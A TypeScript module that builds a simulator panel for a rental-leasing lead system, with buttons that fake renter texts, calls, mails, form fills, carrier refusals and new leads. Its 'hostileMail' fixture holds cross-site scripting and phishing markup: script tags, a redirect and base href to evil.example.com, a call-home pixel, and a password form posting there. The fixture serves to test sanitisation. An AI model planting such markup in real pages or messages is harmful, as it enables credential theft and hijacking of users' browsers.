import { block, button, grid, linkButton, section } from '../controls.ts'
import { leadPicker } from './lead-picker.ts'
import { colleaguesOf, type SectionContext, type PanelSection } from './section.ts'

const channels = ['TEXT_MESSAGE', 'WEBFORM', 'EMAIL', 'CALL'] as const

const zones = ['America/Los_Angeles', 'Pacific/Honolulu', 'America/New_York', 'America/Chicago'] as const

/** An email that tries what emails must not do. */
const hostileMail = {
  subject: '<script>document.title = "hostile"</script>',
  message: 'Is it still free?',
  html: [
    '<style>* { display: none !important }</style><base href="https://evil.example.com/">',
    '<script>top.location = "https://evil.example.com/"</script>',
    '<img src="https://evil.example.com/pixel.gif" width="1" height="1" onerror="alert(1)">',
    '<form action="https://evil.example.com/"><input name="password"></form>',
    '<p>Is it <a href="javascript:alert(2)">still free</a>?</p>',
  ].join(''),
} as const

/** The section with the lead, and what renters can do. */
export function leadSection(context: SectionContext): PanelSection {
  const picker = leadPicker({
    find: async (q) => {
      const mine = colleaguesOf(context.people(), context.me())[0]
      return context.sim.do('findLeads', {
        q,
        limit: 40,
        ...(context.me() === undefined || !mine ? {} : { clientId: mine.clientId }),
      })
    },
    choose: (lead) => context.choose(lead),
  })
  const does = (work: (leadId: string) => Promise<{ name?: string }>, text: string) => () =>
    context.act(async () => {
      const lead = context.lead()
      if (!lead) return undefined
      const answer = await work(lead.id)
      return `${answer.name ?? lead.name} ${text}`
    })
  const { sim } = context
  const buttons = [
    button({
      label: 'Texts',
      icon: 'message',
      press: does((leadId) => sim.do('leadTexts', { leadId }), 'texted.'),
    }),
    button({
      label: 'Calls',
      icon: 'phone',
      hint: 'Calls, and nobody answers',
      press: does((leadId) => sim.do('leadCalls', { leadId }), 'called, and nobody answered.'),
    }),
    button({
      label: 'Mails',
      icon: 'mail',
      press: does((leadId) => sim.do('leadMails', { leadId }), 'wrote a mail.'),
    }),
    button({
      label: 'Fills the form',
      icon: 'appWindow',
      press: does((leadId) => sim.do('leadFillsForm', { leadId }), 'filled the web form.'),
    }),
    button({
      label: 'Leaves voicemail',
      icon: 'voicemail',
      press: does(
        (leadId) => sim.do('leadCalls', { leadId, result: 'VOICEMAIL', seconds: 42 }),
        'left a voicemail.',
      ),
    }),
    button({
      label: 'Text is refused',
      icon: 'circleAlert',
      hint: 'The carrier refuses the newest text to this lead; where there is none, the next one',
      press: () =>
        context.act(async () => {
          const lead = context.lead()
          if (!lead) return undefined
          try {
            await sim.do('carrierRefuses', { leadId: lead.id })
            return `The carrier refused the newest text to ${lead.name}.`
          } catch (error) {
            if (!(error instanceof Error) || !error.message.includes('no text that could be refused'))
              throw error
            const { phone } = await sim.do('row', { leadId: lead.id })
            await sim.do('carrierRefusesNext', typeof phone === 'string' ? { number: phone } : {})
            return `The carrier will refuse the next text to ${lead.name}.`
          }
        }),
    }),
  ]
  let made = 0
  const problem = [
    button({
      label: 'Hostile mail',
      icon: 'mail',
      hint: 'Writes a mail whose markup tries to run, to hide the page and to call home',
      press: does((leadId) => sim.do('leadMails', { leadId, ...hostileMail }), 'wrote a hostile mail.'),
    }),
    button({
      label: 'Another zone',
      hint: 'Moves the property of the lead to the next time zone: Los Angeles, Honolulu, New York, Chicago',
      press: () =>
        context.act(async () => {
          const lead = context.lead()
          if (!lead) return undefined
          const { property } = await sim.do('row', { leadId: lead.id })
          if (!property) return `${lead.name} asks about no property.`
          const timeZone = zones[moved++ % zones.length] ?? 'America/Chicago'
          await sim.do('setPropertyZone', { propertyId: property.id, timeZone })
          return `${property.name} is in ${timeZone}.`
        }),
    }),
  ]
  let moved = 0
  const arrives = linkButton({
    label: 'New lead',
    icon: 'userPlus',
    hint: 'Somebody new asks, each time by another channel',
    press: () =>
      context.act(async () => {
        const clientId = colleaguesOf(context.people(), context.me())[0]?.clientId
        const team = (await sim.do('teams')).find((one) => one.clientRef === clientId)
        const channel = channels[made++ % channels.length] ?? 'TEXT_MESSAGE'
        const { leadId } = await sim.do('newLead', { channel, ...(team ? { teamId: team.id } : {}) })
        const { name, property } = await sim.do('row', { leadId })
        const [found] = await sim.do('findLeads', { q: name, limit: 1 })
        if (found?.id === leadId) context.choose(found)
        return `${name} asks about ${property?.name ?? 'a home'}.`
      }),
  })
  return {
    element: section('A lead', arrives, picker.element, grid(2, ...buttons, ...problem)),
    lead(lead) {
      picker.show(lead)
      block([...buttons, ...problem], lead ? undefined : 'Choose a lead first.')
    },
  }
}
